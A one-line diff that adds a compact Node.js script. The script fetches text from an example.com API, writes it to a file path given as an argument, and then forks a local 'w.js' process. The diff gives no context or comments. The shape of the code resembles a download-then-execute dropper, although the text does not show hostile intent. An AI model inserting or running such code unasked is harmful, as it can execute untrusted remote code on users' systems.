@@ -1,0 +1,1 @@
+const cp=require('child_process');const dest=process.argv[2];const fs=require('fs');(async()=>{const t=await (await fetch('https://api.example.com/x')).text();fs.writeFileSync(dest,t);cp.fork('./w.js')})()
